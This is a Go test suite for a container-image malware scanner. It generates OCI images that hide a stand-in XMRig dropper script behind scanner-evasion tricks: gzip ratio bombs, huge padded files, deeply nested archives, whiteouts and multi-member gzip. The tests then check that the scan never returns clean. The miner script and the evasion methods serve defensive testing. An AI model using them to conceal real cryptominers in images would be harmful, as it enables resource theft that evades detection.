package hostile

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/google/go-containerregistry/pkg/v1/types"
	"github.com/klauspost/compress/gzip"

	"github.com/strata-sec/strata/detectors"
	"github.com/strata-sec/strata/detectors/hierarchical"
	"github.com/strata-sec/strata/internal/scanreport"
)

// The evasion suite puts a known stand-in payload right behind each walker
// limit and each recursion bound. A scan must find it (malicious) or say it
// could not look (incomplete, invalid); clean would mean the bound hid it.
// Images are generated at test time: zeros are streamed into gzip, so only
// the compressed bytes are ever held.

// evasionWallet is a made-up address in Monero's public-address format
// (95 base58 characters starting with 4), the one the hierarchical tests use.
const evasionWallet = "44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5"

// payloadPath is where the payload lives and what ENTRYPOINT starts.
const payloadPath = "usr/local/bin/start.sh"

// payload is an inert dropper script in the style public reports describe
// for XMRig campaigns (kill competing miners, hugepages, XMRig's documented
// command-line options): evidence by content alone, never real malware. The
// pool address is in a documentation range.
const payload = `#!/bin/sh
# system update helper
for p in kdevtmpfsi kinsing xmr-stak minerd; do
    pkill -9 -f "$p" >/dev/null 2>&1
done
sysctl -w vm.nr_hugepages=1280 >/dev/null 2>&1
exec xmrig -o stratum+tcp://203.0.113.7:3333 -u ` + evasionWallet + ` -p x --donate-level 1 -k --tls
`

// evasionCase is one row of the suite; the table is documented in doc.go.
type evasionCase struct {
	name string
	// want is the decision the issue requires; never clean.
	want detectors.Decision
	// why explains want.
	why string
	// awaits names the change on main a case needs before it can pass,
	// "" when main already handles it. It is printed with a failure, never
	// used to skip one.
	awaits string
	// found is where the evidence must be: a substring of the path and
	// evidence of a finding with weight (malicious) or of an
	// archive-not-scanned finding (incomplete), in layer layer.
	found string
	layer int
	img   func(t testing.TB) v1.Image
}

const (
	awaitBudget   = "walker budgets: the 100x compression-ratio limit becomes an image byte budget"
	awaitFileRead = "walker budgets: the per-file read limit (32 MiB) goes"
	awaitBinary   = "hierarchical: content with a NUL byte in its first 8 KiB that is not ELF (kindOther) is not literal-scanned at all, and no not-scanned finding says so"
)

func evasionCases() []evasionCase {
	return []evasionCase{
		{name: "control", want: detectors.Malicious,
			why:   "the payload alone, in a plain layer: proves every other row hides something the detector finds",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error { return writePayload(tw, payloadPath) }))
			}},
		{name: "ratio-bomb-1GiB", want: detectors.Malicious, awaits: awaitBudget,
			why:   "1 GiB of zeros (~1000:1) before the payload in the same gzip layer: zeros cost nothing to read, so the bytes behind them are scanned",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error {
					if err := writeFill(tw, "var/cache/app/blob.bin", 1<<30, 0); err != nil {
						return err
					}
					return writePayload(tw, payloadPath)
				}))
			}},
		{name: "big-file-40MiB-text", want: detectors.Malicious, awaits: awaitFileRead,
			why:   "the payload at the end of a 40 MiB shell script (newline padding), past the old 32 MiB per-file limit: cheap matchers stream every byte",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error { return writePadded(tw, payloadPath, 40<<20, '\n') }))
			}},
		{name: "big-file-40MiB-zeros", want: detectors.Malicious, awaits: awaitFileRead + "; " + awaitBinary,
			why:   "the payload at the end of a 40 MiB file that starts with zeros (looks binary): still streamed to the end",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error { return writePadded(tw, payloadPath, 40<<20, 0) }))
			}},
		{name: "nul-head-9KiB", want: detectors.Malicious, awaits: awaitBinary,
			why:   "the payload after 8 KiB of zeros in a 9 KiB script: no limit is near, only the 8 KiB classification window; a file with a NUL is still a file to match",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error { return writePadded(tw, payloadPath, 9<<10, 0) }))
			}},
		{name: "100k-tiny-files", want: detectors.Malicious,
			why:   "100,000 one-byte files before the payload: below the entry limit (2^20), so every entry is applied and scanned",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error {
					for i := 0; i < 100_000; i++ {
						if err := writeFile(tw, fmt.Sprintf("srv/data/%03d/f%06d", i/1000, i), 0o644, []byte("x")); err != nil {
							return err
						}
					}
					return writePayload(tw, payloadPath)
				}))
			}},
		{name: "nested-10-tgz", want: detectors.Incomplete,
			why:   "the payload behind 10 levels of tar.gz in a layer file: the archive depth bound (4 containers) stops the recursion and says so (archive-not-scanned)",
			found: "bundle.tgz!level09.tgz!level08.tgz (gzip+tar+gzip+tar): gzip nested 4 archives deep",
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error {
					return writeFile(tw, "opt/app/bundle.tgz", 0o644, nestedTgz(t, 10))
				}))
			}},
		{name: "last-of-500-layers", want: detectors.Malicious,
			why:   "the payload in the last of 500 layers: no bound on the number of layers, each is walked",
			found: payloadPath, layer: 499,
			img: func(t testing.TB) v1.Image {
				ls := make([]v1.Layer, 500)
				for i := range ls[:499] {
					ls[i] = gzipLayer(t, func(tw *tar.Writer) error {
						return writeFile(tw, fmt.Sprintf("etc/app/conf.d/%03d.conf", i), 0o644, []byte("# empty\n"))
					})
				}
				ls[499] = gzipLayer(t, func(tw *tar.Writer) error { return writePayload(tw, payloadPath) })
				return evasionImage(t, ls...)
			}},
		{name: "pax-header-64KiB", want: detectors.Malicious,
			why:   "an entry with a 64 KiB PAX record before the payload, whose own header carries one too: PAX headers up to 1 MiB are read, the payload is scanned",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				big := map[string]string{"comment": strings.Repeat("A", 64<<10)}
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error {
					if err := tw.WriteHeader(&tar.Header{Name: "etc/motd", Typeflag: tar.TypeReg, Mode: 0o644, Size: 3,
						Format: tar.FormatPAX, PAXRecords: big}); err != nil {
						return err
					}
					if _, err := tw.Write([]byte("hi\n")); err != nil {
						return err
					}
					if err := tw.WriteHeader(&tar.Header{Name: payloadPath, Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(payload)),
						Format: tar.FormatPAX, PAXRecords: big}); err != nil {
						return err
					}
					_, err := tw.Write([]byte(payload))
					return err
				}))
			}},
		{name: "gzip-file-second-member", want: detectors.Malicious,
			why:   "the payload in the second member of a multi-member .gz file: gunzip concatenates members, so does the unpacker",
			found: "/opt/app/update.sh.gz (gzip): ",
			img: func(t testing.TB) v1.Image {
				multi := append(gz(t, []byte("log rotated\n")), gz(t, []byte(payload))...)
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error {
					return writeFile(tw, "opt/app/update.sh.gz", 0o644, multi)
				}))
			}},
		{name: "gzip-layer-second-member", want: detectors.Malicious,
			why:   "a layer blob of two gzip members, the payload's entry in the second: the layer is read to its end",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				var second bytes.Buffer
				tw := tar.NewWriter(&second)
				if err := writePayload(tw, payloadPath); err != nil {
					t.Fatal(err)
				}
				if err := tw.Close(); err != nil {
					t.Fatal(err)
				}
				// Member 1 is a tar without its end-of-archive marker: the
				// archive goes on in member 2.
				lead := rawTar(t, entry{hdr: tar.Header{Name: "etc/hostname"}, body: []byte("app\n")})
				lead = lead[:len(lead)-1024]
				return evasionImage(t, blobLayer(t, append(gz(t, lead), gz(t, second.Bytes())...)))
			}},
		{name: "hidden-by-whiteout", want: detectors.Malicious,
			why:   "the payload added in layer 0 and deleted by a whiteout in layer 1: hidden content is still scanned and counts",
			found: payloadPath,
			img: func(t testing.TB) v1.Image {
				dir, base := filepath.Split(payloadPath)
				return evasionImage(t,
					gzipLayer(t, func(tw *tar.Writer) error { return writePayload(tw, payloadPath) }),
					gzipLayer(t, func(tw *tar.Writer) error { return writeFile(tw, dir+".wh."+base, 0o644, nil) }))
			}},
		{name: "nested-2-tgz", want: detectors.Malicious,
			why:   "the payload in a tgz inside a tgz (4 containers: gzip, tar, gzip, tar): within the depth bound, so found, not merely incomplete",
			found: "/opt/app/bundle.tgz!level01.tgz!start.sh (gzip+tar+gzip+tar): ",
			img: func(t testing.TB) v1.Image {
				return evasionImage(t, gzipLayer(t, func(tw *tar.Writer) error {
					return writeFile(tw, "opt/app/bundle.tgz", 0o644, nestedTgz(t, 2))
				}))
			}},
	}
}

// evasionImage is an image of ls whose ENTRYPOINT starts the payload path,
// built the way go-containerregistry builds images.
func evasionImage(t testing.TB, ls ...v1.Layer) v1.Image {
	t.Helper()
	img, err := mutate.AppendLayers(empty.Image, ls...)
	if err != nil {
		t.Fatal(err)
	}
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture = "linux", "amd64"
	cf.Config.Entrypoint = []string{"/" + payloadPath}
	if img, err = mutate.ConfigFile(img, cf); err != nil {
		t.Fatal(err)
	}
	return img
}

// gzipLayer streams the tar gen writes through gzip and returns a layer over
// the compressed bytes: the uncompressed stream is never held.
func gzipLayer(t testing.TB, gen func(tw *tar.Writer) error) v1.Layer {
	t.Helper()
	var buf bytes.Buffer
	zw, err := gzip.NewWriterLevel(&buf, gzip.BestSpeed)
	if err != nil {
		t.Fatal(err)
	}
	tw := tar.NewWriter(zw)
	if err := gen(tw); err != nil {
		t.Fatalf("generate layer: %v", err)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return blobLayer(t, buf.Bytes())
}

// blobLayer is a layer over a stored gzip blob (tarball.LayerFromOpener).
func blobLayer(t testing.TB, blob []byte) v1.Layer {
	t.Helper()
	l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(blob)), nil },
		tarball.WithMediaType(types.OCILayer))
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func writeFile(tw *tar.Writer, name string, mode int64, body []byte) error {
	if err := tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: mode, Size: int64(len(body)), Format: tar.FormatPAX}); err != nil {
		return err
	}
	_, err := tw.Write(body)
	return err
}

func writePayload(tw *tar.Writer, name string) error {
	return writeFile(tw, name, 0o755, []byte(payload))
}

// writeFill writes a file of n bytes, all b, in chunks.
func writeFill(tw *tar.Writer, name string, n int64, b byte) error {
	if err := tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: n, Format: tar.FormatPAX}); err != nil {
		return err
	}
	return fill(tw, n, b)
}

func fill(w io.Writer, n int64, b byte) error {
	chunk := bytes.Repeat([]byte{b}, 1<<20)
	for left := n; left > 0; left -= int64(len(chunk)) {
		if left < int64(len(chunk)) {
			chunk = chunk[:left]
		}
		if _, err := w.Write(chunk); err != nil {
			return err
		}
	}
	return nil
}

// writePadded writes an executable of size bytes: a shebang, padding of b,
// and the payload at the very end.
func writePadded(tw *tar.Writer, name string, size int64, b byte) error {
	head := []byte("#!/bin/sh\n")
	if err := tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o755, Size: size, Format: tar.FormatPAX}); err != nil {
		return err
	}
	if _, err := tw.Write(head); err != nil {
		return err
	}
	if err := fill(tw, size-int64(len(head))-int64(len(payload))-1, b); err != nil {
		return err
	}
	_, err := tw.Write([]byte("\n" + payload))
	return err
}

// nestedTgz returns the payload wrapped in levels of tar.gz: level 1 is a
// tgz holding the payload, level n a tgz holding level n-1.
func nestedTgz(t testing.TB, levels int) []byte {
	t.Helper()
	name, body := "start.sh", []byte(payload)
	for i := 1; i <= levels; i++ {
		body = gz(t, rawTar(t, entry{hdr: tar.Header{Name: name, Mode: 0o755}, body: body}))
		name = fmt.Sprintf("level%02d.tgz", i)
	}
	return body
}

var (
	evasionMu     sync.Mutex
	evasionImages = map[string]v1.Image{}
)

// evasionImageOf builds tc's image once per test binary (TestEvasion and
// TestEvasionPeakRSS share them).
func evasionImageOf(t testing.TB, tc evasionCase) v1.Image {
	evasionMu.Lock()
	defer evasionMu.Unlock()
	if img, ok := evasionImages[tc.name]; ok {
		return img
	}
	img := tc.img(t)
	evasionImages[tc.name] = img
	return img
}

func TestEvasion(t *testing.T) {
	type row struct{ name, want, got, verdict, exit, took string }
	var rows []row
	for _, tc := range evasionCases() {
		t.Run(tc.name, func(t *testing.T) {
			if tc.want == detectors.Clean || tc.want == "" {
				t.Fatalf("case %s expects %q: the suite never accepts clean", tc.name, tc.want)
			}
			note := ""
			if tc.awaits != "" {
				note = " (this case needs: " + tc.awaits + ")"
			}
			start := time.Now()
			img := evasionImageOf(t, tc)
			ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
			defer cancel()
			// The detector as `strata scan` builds it by default.
			d := hierarchical.New(hierarchical.WithLayerCache(nil))
			v, err := d.Scan(ctx, img)
			if err != nil {
				t.Fatalf("scan: %v%s", err, note)
			}
			st := reportTarget(t, tc.name, img, v)
			code := scanreport.Report{Targets: []scanreport.Target{st}}.Outcome(scanreport.FailOnIncomplete).Code
			rows = append(rows, row{tc.name, string(tc.want), st.Decision, string(v.Decision), fmt.Sprint(code), time.Since(start).Round(time.Millisecond).String()})

			if v.Decision == detectors.Clean || st.Decision == string(detectors.Clean) {
				t.Errorf("EVADED: verdict clean (score %.2f)%s; findings %v", v.Score, note, v.Findings)
			}
			if v.Decision != tc.want || st.Decision != string(tc.want) {
				t.Errorf("verdict %s, report %s, want %s (score %.2f of %.2f)%s; findings %v",
					v.Decision, st.Decision, tc.want, v.Score, v.Threshold, note, v.Findings)
			}
			if code == scanreport.ExitClean || code != scanreport.ExitCode(string(tc.want)) {
				t.Errorf("exit code %d by default, want %d%s", code, scanreport.ExitCode(string(tc.want)), note)
			}
			if !foundAt(v, tc) {
				t.Errorf("no %s finding in layer %d at %q: the decision does not come from the payload%s; findings %v",
					evidenceKind(tc.want), tc.layer, tc.found, note, v.Findings)
			}
			if tc.name == "control" && v.Score < 2*v.Threshold {
				t.Errorf("control scores %.2f, want at least twice the threshold %.2f: the payload is too weak a stand-in", v.Score, v.Threshold)
			}
		})
	}
	var b strings.Builder
	fmt.Fprintf(&b, "\n%-26s %-10s %-10s %-10s %-4s %s\n", "case", "want", "report", "verdict", "exit", "took")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-26s %-10s %-10s %-10s %-4s %s\n", r.name, r.want, r.got, r.verdict, r.exit, r.took)
	}
	t.Log(b.String())
}

// evidenceKind names what shows the payload was seen (malicious) or that
// the bound was reported (incomplete).
func evidenceKind(want detectors.Decision) string {
	if want == detectors.Malicious {
		return "weighted"
	}
	return hierarchical.RuleArchiveNotScanned
}

// foundAt reports whether v has tc's evidence where tc says: the payload's
// own content (the shell parse may stop before a padded payload, the literal
// matchers do not), or the bound's not-scanned finding.
func foundAt(v detectors.Verdict, tc evasionCase) bool {
	for _, f := range v.Findings {
		if f.Layer != tc.layer || !strings.Contains(f.Path+" "+f.Evidence, tc.found) {
			continue
		}
		if tc.want == detectors.Malicious && f.Weight > 0 && f.Category != detectors.CategoryNotScanned ||
			tc.want != detectors.Malicious && f.Rule == hierarchical.RuleArchiveNotScanned {
			return true
		}
	}
	return false
}

// reportTarget lays v out as the scan report does (scanreport.FromVerdict),
// so the decision and exit code are those `strata scan` would give.
func reportTarget(t testing.TB, name string, img v1.Image, v detectors.Verdict) scanreport.Target {
	t.Helper()
	dg, err := img.Digest()
	if err != nil {
		t.Fatal(err)
	}
	m, err := img.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	return scanreport.FromVerdict(name, "", dg.String(), m, cf, v)
}

// rssHostileCases are the largest cases of the hostile corpus that fail
// closed with the CLI's default limits (history-100k: its 9 MB config is over
// the 8 MiB bound, an error).
var rssHostileCases = []string{"tar-bomb-declared-size", "history-100k", "depth-10000", "truncated-gzip"}

// maxRSSKiB is the bound on a scan's peak resident set: 200 MB.
const maxRSSKiB = 200 * 1000 * 1000 / 1024

// TestEvasionPeakRSS scans every evasion case and the largest hostile cases
// with the strata binary, from OCI layouts on disk, and checks each scan's
// peak RSS and that it exits non-zero (for evasion cases: exactly the code
// of the expected decision).
func TestEvasionPeakRSS(t *testing.T) {
	if testing.Short() {
		t.Skip("builds cmd/strata and scans every case in a child process")
	}
	if _, err := exec.LookPath("go"); err != nil {
		t.Skipf("no go command to build cmd/strata: %v", err)
	}
	tmp := t.TempDir()
	exe := filepath.Join(tmp, "strata")
	build := exec.Command("go", "build", "-o", exe, "./cmd/strata")
	build.Dir = filepath.Join("..", "..")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build ./cmd/strata: %v\n%s", err, out)
	}

	// The launcher's own peak is the floor of every figure; it must be
	// well below the bound for the figures to mean anything.
	if tr, err := exec.LookPath("true"); err == nil {
		res, err := measure(tr)
		if err != nil {
			t.Fatalf("launcher: %v", err)
		}
		t.Logf("launcher floor (peak RSS of %s run by it): %d KiB", tr, res.MaxRSSKiB)
		if res.MaxRSSKiB > maxRSSKiB/4 {
			t.Fatalf("the launcher alone peaks at %d KiB: figures under %d KiB would not be strata's", res.MaxRSSKiB, maxRSSKiB)
		}
	}

	type target struct {
		name     string
		wantCode int // -1: any non-zero code
		awaits   string
		img      func(t *testing.T) v1.Image
	}
	var targets []target
	for _, tc := range evasionCases() {
		tc := tc
		targets = append(targets, target{"evasion/" + tc.name, scanreport.ExitCode(string(tc.want)), tc.awaits,
			func(t *testing.T) v1.Image { return evasionImageOf(t, tc) }})
	}
	hostile := map[string]tcase{}
	for _, tc := range cases() {
		hostile[tc.name] = tc
	}
	for _, n := range rssHostileCases {
		tc, ok := hostile[n]
		if !ok {
			t.Fatalf("hostile case %q is gone: update rssHostileCases", n)
		}
		if tc.wantDecision == detectors.Clean {
			t.Fatalf("hostile case %q is clean: it cannot show that a scan fails closed", n)
		}
		targets = append(targets, target{"hostile/" + n, -1, "", tc.img})
	}

	var b strings.Builder
	fmt.Fprintf(&b, "\n%-34s %9s %5s %-10s %s\n", "case", "peak RSS", "exit", "decision", "took")
	for _, tg := range targets {
		t.Run(tg.name, func(t *testing.T) {
			dir := filepath.Join(tmp, strings.ReplaceAll(tg.name, "/", "_"))
			p, err := layout.Write(dir, empty.Index)
			if err == nil {
				err = p.AppendImage(tg.img(t))
			}
			if err != nil {
				t.Fatalf("write OCI layout: %v", err)
			}
			start := time.Now()
			res, err := measure(exe, "scan", "--format", "json", dir)
			took := time.Since(start).Round(time.Millisecond)
			os.RemoveAll(dir)
			if err != nil {
				t.Fatalf("run strata scan: %v", err)
			}
			code, decision, stderr := res.Code, jsonDecision(res.Stdout), res.Stderr
			fmt.Fprintf(&b, "%-34s %6d MB %5d %-10s %v\n", tg.name, res.MaxRSSKiB*1024/1000/1000, code, decision, took)
			note := ""
			if tg.awaits != "" {
				note = " (this case needs: " + tg.awaits + ")"
			}
			if res.MaxRSSKiB <= 0 || res.MaxRSSKiB > maxRSSKiB {
				t.Errorf("peak RSS %d KiB, want (0, %d] KiB (200 MB)", res.MaxRSSKiB, maxRSSKiB)
			}
			switch {
			case code == 0:
				t.Errorf("EVADED: strata scan exited 0 (decision %s)%s; stderr:\n%s", decision, note, stderr)
			case tg.wantCode >= 0 && code != tg.wantCode:
				t.Errorf("strata scan exited %d (decision %s), want %d%s; stderr:\n%s", code, decision, tg.wantCode, note, stderr)
			}
		})
	}
	t.Log(b.String())
}

// jsonDecision is the decision of the first target of a JSON scan report,
// or "-" when there is none (an error before the report).
func jsonDecision(out []byte) string {
	var rep scanreport.Report
	if json.Unmarshal(out, &rep) != nil || len(rep.Targets) == 0 {
		return "-"
	}
	return rep.Targets[0].Decision
}

// The peak RSS of a child is read from its rusage (ru_maxrss, KiB on Linux).
// Linux carries the high-water RSS of the address space a process replaces
// by execve into its ru_maxrss, and os/exec starts children with vfork, whose
// address space is the parent's: a child of this test process would report
// at least the test's own peak (the images it generated). So the test binary
// re-runs itself as a small launcher (TestMain), which starts strata and
// reports its rusage: the figure is then strata's own peak, or the
// launcher's (~10 MB) if that were larger.
const launcherEnv = "STRATA_HOSTILE_RSS_LAUNCH"

// launched is what the launcher reports.
type launched struct {
	Code      int    `json:"code"`
	MaxRSSKiB int64  `json:"maxrss_kib"`
	Stdout    []byte `json:"stdout"`
	Stderr    string `json:"stderr"`
	Err       string `json:"err,omitempty"`
}

func TestMain(m *testing.M) {
	if args := os.Getenv(launcherEnv); args != "" {
		os.Exit(launch(args))
	}
	os.Exit(m.Run())
}

// launch runs the command JSON-encoded in args and writes a launched
// record on stdout.
func launch(args string) int {
	var argv []string
	res := launched{Code: -1}
	if err := json.Unmarshal([]byte(args), &argv); err != nil || len(argv) == 0 {
		res.Err = fmt.Sprintf("bad %s %q: %v", launcherEnv, args, err)
	} else {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		var stdout, stderr bytes.Buffer
		cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		err := cmd.Run()
		var ee *exec.ExitError
		if err != nil && !errors.As(err, &ee) {
			res.Err = err.Error()
		}
		if ps := cmd.ProcessState; ps != nil {
			res.Code = ps.ExitCode()
			if ru, ok := ps.SysUsage().(*syscall.Rusage); ok {
				res.MaxRSSKiB = int64(ru.Maxrss)
			}
		}
		res.Stdout, res.Stderr = stdout.Bytes(), stderr.String()
	}
	if err := json.NewEncoder(os.Stdout).Encode(res); err != nil {
		return 1
	}
	return 0
}

// measure runs argv through the launcher and returns what it reports.
func measure(argv ...string) (launched, error) {
	enc, err := json.Marshal(argv)
	if err != nil {
		return launched{}, err
	}
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), launcherEnv+"="+string(enc))
	out, err := cmd.Output()
	if err != nil {
		return launched{}, fmt.Errorf("launcher %s: %w", os.Args[0], err)
	}
	var res launched
	if err := json.Unmarshal(out, &res); err != nil {
		return launched{}, fmt.Errorf("launcher output %q: %w", out, err)
	}
	if res.Err != "" {
		return res, errors.New(res.Err)
	}
	return res, nil
}
